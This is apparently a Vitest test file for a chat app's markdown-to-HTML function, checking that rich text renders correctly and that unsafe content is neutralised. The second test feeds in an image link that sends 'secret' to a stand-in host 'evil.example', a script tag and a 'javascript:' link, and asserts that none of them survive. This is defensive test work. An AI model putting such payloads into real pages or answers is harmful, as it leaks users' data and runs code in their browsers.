import { expect, test } from "vitest";
import { answerHtml } from "#app/(workspace)/chat/_answer-actions/answer-html.ts";

test("rich text contains headings, lists, tables, code and links", () => {
  const html = answerHtml(
    "## Title\n\n**bold** and [a link](https://example.com)\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst a = 1 < 2;\n```",
  );
  expect(html).toContain("<h2>Title</h2>");
  expect(html).toContain('<strong>bold</strong> and <a href="https://example.com">a link</a>');
  expect(html).toContain("<li>one</li>");
  expect(html).toMatch(/<td>1<\/td>\s*<td>2<\/td>/);
  expect(html).toContain("const a = 1 &#x3C; 2;");
});

test("rich text loads nothing from elsewhere, runs nothing and keeps words in angle brackets", () => {
  const html = answerHtml(
    "![chart](https://evil.example/a?q=secret) <script>alert(1)</script> Promise<void> [x](javascript:alert(1))\n\n- [x] done",
  );
  expect(html).not.toMatch(/<img|<script|javascript:|<input/);
  expect(html).toContain('<a href="https://evil.example/a?q=secret">chart</a>');
  expect(html).toContain("Promise&#x3C;void>");
  expect(html).toContain("☑ done");
});
